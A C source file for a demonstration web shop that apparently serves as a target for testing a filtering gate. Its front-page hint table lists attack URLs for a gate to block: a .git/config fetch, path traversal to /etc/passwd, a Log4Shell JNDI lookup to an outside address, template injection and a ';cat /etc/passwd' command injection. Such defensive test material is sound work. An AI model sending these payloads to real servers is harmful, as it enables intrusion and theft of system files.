/* pages.c -- the shop's shelves and shop window.
 *
 * The tables come first: what is sold, what to try, which function answers which
 * path. A cart is a cookie of product numbers, "cart=1.3.3". */
#include "demo/pages.h"

static const struct product {
	const char *name, *about;
	unsigned cents;
} products[] = {
	{ "Oak chair",    "Four legs, one seat; carries what sits on it.",   8900 },
	{ "Blue cushion", "For chairs that are honest but hard.",            1450 },
	{ "Tea kettle",   "Whistles when it is done, and only then.",        3900 },
	{ "Fire bell",    "Rings early. Most doors have none.",              5200 },
	{ "Door mat",     "Says who may come in. Says it politely.",         1900 },
	{ "Select union", "A pipe fitting, for orders by hand or from JSON.", 700 },
};

/* Links of the front page: what a gate in front of the shop should stop, and what
 * only looks like it. */
static const struct hint {
	const char *href, *says;
} attacks[] = {
	{ "/.git/config",                                    "the site's sources" },
	{ "/product/1?file=../../../../etc/passwd",          "a path out of the shop" },
	{ "/search?q=%24%7Bjndi:ldap://203.0.113.9/a%7D",    "log4shell" },
	{ "/search?q=%7B%7Bconfig.__class__%7D%7D",          "a template injection" },
	{ "/search?q=%3Bcat%20/etc/passwd",                  "a shell command" },
}, harmless[] = {
	{ "/search?q=select+union",                          "a product with an unlucky name" },
	{ "/search?q=cat+%26+kettle",                        "an ampersand" },
	{ "/search?q=Fire+bell+%7B5200%7D",                  "braces" },
};

static const char style[] =
	"body{font:17px/1.5 system-ui,sans-serif;max-width:46rem;margin:auto;padding:1rem;color:#222}"
	"header,footer{display:flex;gap:1rem;padding:.6rem 0;border-bottom:2px solid #c33}"
	"footer{border:0;color:#777}header b{flex:1}a{color:#a22}h1{font-size:1.5rem}"
	"ul.goods{display:grid;grid-template-columns:1fr 1fr;gap:.8rem;list-style:none;padding:0}"
	".goods li,aside{background:#f6f2ee;border-radius:.5rem;padding:.8rem}"
	"code{font-size:.85em}input,button{font:inherit;padding:.2rem .5rem}";

/* ---- small words ---- */

static int hex(char c)
{
	const char *digits = "0123456789abcdef", *at = c ? strchr(digits, byte_lower(c)) : NULL;

	return at ? (int)(at - digits) : -1;
}

/* application/x-www-form-urlencoded; a broken escape stays as it is. */
static struct bytes decode(struct arena *a, struct bytes in)
{
	char *out = arena_raw(a, in.len + 1);
	size_t n = 0;

	for (size_t i = 0; out && i < in.len; i++)
		if (in.at[i] == '%' && i + 2 < in.len && hex(in.at[i + 1]) >= 0 && hex(in.at[i + 2]) >= 0) {
			out[n++] = (char)(hex(in.at[i + 1]) << 4 | hex(in.at[i + 2]));
			i += 2;
		} else {
			out[n++] = in.at[i] == '+' ? ' ' : in.at[i];
		}
	return (struct bytes){ out, n };
}

/* The decoded value of `name` in "a=1&b=2", or in "a=1; b=2" of a Cookie field. */
static struct bytes param(struct arena *a, struct bytes in, char separator, struct bytes name)
{
	struct bytes part, key;

	while (bytes_cut(&in, separator, &part)) {
		part = bytes_trim(part);
		if (bytes_cut(&part, '=', &key) && bytes_eq(key, name))
			return decode(a, part);
	}
	return BYTES("");
}

/* NULL: no such product. Numbers start at 1. */
static const struct product *product_of(struct bytes number)
{
	uint64_t n;

	return bytes_u64(number, &n) && n >= 1 && n <= nelems(products) ? &products[n - 1] : NULL;
}

static void put_price(struct text *t, unsigned cents)
{
	text_printf(t, "%u.%02u", cents / 100, cents % 100);
}

/* ---- pages ---- */

struct ask {
	struct arena *arena;
	const struct request *request;
	struct bytes rest; /* of the path, behind the route's */
	struct bytes body;
};

static void html(struct page *p, const char *title)
{
	p->type = "text/html; charset=utf-8";
	text_printf(&p->body, "<!doctype html><html lang=en><meta charset=utf-8><title>%s - Ember shop</title>"
		    "<link rel=stylesheet href=/style.css><header><b>Ember shop</b><a href=/>Goods</a>"
		    "<a href=/cart>Cart</a><a href=/login>Log in</a></header><h1>%s</h1>", title, title);
}

static void put_hints(struct text *t, const struct hint *h, size_t n)
{
	text_str(t, "<ul>");
	for (size_t i = 0; i < n; i++)
		text_printf(t, "<li><a href=\"%s\"><code>%s</code></a>: %s", h[i].href, h[i].href, h[i].says);
	text_str(t, "</ul>");
}

static void put_goods(struct text *t, struct bytes wanted)
{
	text_str(t, "<ul class=goods>");
	for (size_t i = 0; i < nelems(products); i++)
		if (bytes_find_nocase(bytes_of(products[i].name), wanted) != SIZE_MAX) {
			text_printf(t, "<li><a href=/product/%zu>%s</a><br>%s<br>", i + 1, products[i].name,
				    products[i].about);
			put_price(t, products[i].cents);
		}
	text_str(t, "</ul>");
}

static void home(const struct ask *q, struct page *p)
{
	(void)q;
	html(p, "Goods for careful houses");
	text_str(&p->body, "<form action=/search><input name=q placeholder=\"what are you looking for?\">"
			   " <button>Search</button></form>");
	put_goods(&p->body, BYTES(""));
	text_str(&p->body, "<aside>A gate in front of this shop should stop these:");
	put_hints(&p->body, attacks, nelems(attacks));
	text_str(&p->body, "and let these pass:");
	put_hints(&p->body, harmless, nelems(harmless));
	text_str(&p->body, "</aside><footer>A demonstration. Nothing is sold, nothing is kept.</footer>");
}

static void missing(const struct ask *q, struct page *p)
{
	p->status = 404;
	html(p, "Not on our shelves");
	text_str(&p->body, "<p>There is no <code>");
	text_html(&p->body, q->request->path);
	text_str(&p->body, "</code> here.");
}

static void product(const struct ask *q, struct page *p)
{
	const struct product *one = product_of(q->rest);

	if (!one) {
		missing(q, p);
		return;
	}
	html(p, one->name);
	text_printf(&p->body, "<p>%s<p>", one->about);
	put_price(&p->body, one->cents);
	text_printf(&p->body, "<form method=post action=/cart><input type=hidden name=product value=%zu>"
		    "<button>Into the cart</button></form>", (size_t)(one - products) + 1);
}

static void search(const struct ask *q, struct page *p)
{
	struct bytes wanted = param(q->arena, q->request->query, '&', BYTES("q"));

	html(p, "Search");
	text_str(&p->body, "<form action=/search><input name=q value=\"");
	text_html(&p->body, wanted);
	text_str(&p->body, "\"> <button>Search</button></form><p>Found for <b>");
	text_html(&p->body, wanted);
	text_str(&p->body, "</b>:");
	put_goods(&p->body, wanted);
}

static void login_form(const struct ask *q, struct page *p)
{
	(void)q;
	html(p, "Log in");
	text_str(&p->body, "<form method=post action=/login><p><input name=user placeholder=name autocomplete=username>"
			   "<p><input name=password type=password placeholder=password>"
			   "<p><button>Log in</button></form><p>Any name; the password is <code>ember</code>.");
}

static void login(const struct ask *q, struct page *p)
{
	if (bytes_eq(param(q->arena, q->body, '&', BYTES("password")), BYTES("ember"))) {
		p->status = 303;
		p->location = BYTES("/");
		p->cookie = BYTES("visitor=known; HttpOnly; SameSite=Lax; Path=/");
		return;
	}
	p->status = 401;
	login_form(q, p);
	text_str(&p->body, "<p><b>That is not the password.</b>");
}

static struct bytes cart_of(const struct ask *q)
{
	return param(q->arena, fields_value(&q->request->fields, FIELD_COOKIE), ';', BYTES("cart"));
}

static void cart(const struct ask *q, struct page *p)
{
	struct bytes list = cart_of(q), number;
	const struct product *one;
	unsigned total = 0, n = 0;

	html(p, "Your cart");
	text_str(&p->body, "<ul>");
	while (n < 50 && bytes_cut(&list, '.', &number)) {
		one = product_of(number);
		if (!one)
			continue;
		n++;
		total += one->cents;
		text_printf(&p->body, "<li>%s ", one->name);
		put_price(&p->body, one->cents);
	}
	text_printf(&p->body, "</ul><p>%u in all, together ", n);
	put_price(&p->body, total);
}

static void cart_add(const struct ask *q, struct page *p)
{
	struct bytes number = param(q->arena, q->body, '&', BYTES("product")), had = cart_of(q);
	struct text t = text_over(arena_raw(q->arena, 256), 256);

	if (!product_of(number)) {
		missing(q, p);
		return;
	}
	/* Digits and dots alone go back into a field. */
	for (size_t i = 0; i < had.len; i++)
		if (had.len > 100 || ((had.at[i] < '0' || had.at[i] > '9') && had.at[i] != '.'))
			had.len = 0;
	text_printf(&t, "cart=%.*s%s%.*s; SameSite=Lax; Path=/", BYTES_ARG(had), had.len ? "." : "",
		    BYTES_ARG(number));
	p->status = 303;
	p->location = BYTES("/cart");
	p->cookie = text_bytes(&t);
}

static void style_sheet(const struct ask *q, struct page *p)
{
	(void)q;
	p->type = "text/css";
	text_str(&p->body, style);
}

/* ---- the API ---- */

static void put_json(struct text *t, const struct product *one)
{
	text_printf(t, "{\"id\":%zu,\"name\":", (size_t)(one - products) + 1);
	text_json(t, bytes_of(one->name));
	text_printf(t, ",\"cents\":%u}", one->cents);
}

static void api_error(struct page *p, unsigned status, const char *title)
{
	p->status = status;
	p->type = "application/problem+json";
	text_printf(&p->body, "{\"status\":%u,\"title\":\"%s\"}\n", status, title);
}

static void api_products(const struct ask *q, struct page *p)
{
	(void)q;
	p->type = "application/json";
	for (size_t i = 0; i < nelems(products); i++) {
		text_byte(&p->body, i ? ',' : '[');
		put_json(&p->body, &products[i]);
	}
	text_str(&p->body, "]\n");
}

static void api_product(const struct ask *q, struct page *p)
{
	const struct product *one = product_of(q->rest);

	if (!one) {
		api_error(p, 404, "no such product");
		return;
	}
	p->type = "application/json";
	put_json(&p->body, one);
}

/* The number behind "name": in a flat object; a parser would be longer than the
 * rest of the shop. */
static struct bytes json_number(struct bytes in, struct bytes quoted_name)
{
	size_t at = bytes_find(in, quoted_name), n = 0;

	if (at == SIZE_MAX)
		return BYTES("");
	in = bytes_trim(bytes_from(in, at + quoted_name.len));
	in = in.len && in.at[0] == ':' ? bytes_trim(bytes_from(in, 1)) : BYTES("");
	while (n < in.len && in.at[n] >= '0' && in.at[n] <= '9')
		n++;
	return bytes_sub(in, 0, n);
}

static void api_cart(const struct ask *q, struct page *p)
{
	const struct product *one = product_of(json_number(q->body, BYTES("\"product\"")));
	uint64_t quantity;

	if (!one || !bytes_u64(json_number(q->body, BYTES("\"quantity\"")), &quantity) || quantity > 99) {
		api_error(p, 400, "wanted: {product: number, quantity: 0 to 99}");
		return;
	}
	p->status = 201;
	p->type = "application/json";
	text_str(&p->body, "{\"product\":");
	put_json(&p->body, one);
	text_printf(&p->body, ",\"quantity\":%u,\"cents\":%u}\n", (unsigned)quantity, (unsigned)quantity * one->cents);
}

/* ---- who answers ---- */

static const struct route {
	const char *method, *path;
	bool prefix;
	void (*answer)(const struct ask *, struct page *);
} routes[] = {
	{ "GET",  "/",              false, home         },
	{ "GET",  "/product/",      true,  product      },
	{ "GET",  "/search",        false, search       },
	{ "GET",  "/login",         false, login_form   },
	{ "POST", "/login",         false, login        },
	{ "GET",  "/cart",          false, cart         },
	{ "POST", "/cart",          false, cart_add     },
	{ "GET",  "/style.css",     false, style_sheet  },
	{ "GET",  "/api/products",  false, api_products },
	{ "GET",  "/api/products/", true,  api_product  },
	{ "POST", "/api/cart",      false, api_cart     },
};

static const struct route *route_of(const struct request *r)
{
	struct bytes method = bytes_eq(r->method, BYTES("HEAD")) ? BYTES("GET") : r->method;

	for (size_t i = 0; i < nelems(routes); i++) {
		struct bytes path = bytes_of(routes[i].path);

		if (bytes_eq(bytes_of(routes[i].method), method) &&
		    (routes[i].prefix ? bytes_starts(r->path, path) : bytes_eq(r->path, path)))
			return &routes[i];
	}
	return NULL;
}

bool page_make(struct arena *a, const struct request *r, struct bytes body, struct page *p)
{
	const struct route *route = route_of(r);
	struct ask q = { a, r, route ? bytes_from(r->path, strlen(route->path)) : BYTES(""), body };
	char *room = arena_raw(a, PAGE_BYTES);

	*p = (struct page){ .status = 200, .type = "text/plain", .body = text_over(room, room ? PAGE_BYTES : 0) };
	(route ? route->answer : missing)(&q, p);
	return room && !p->body.full;
}
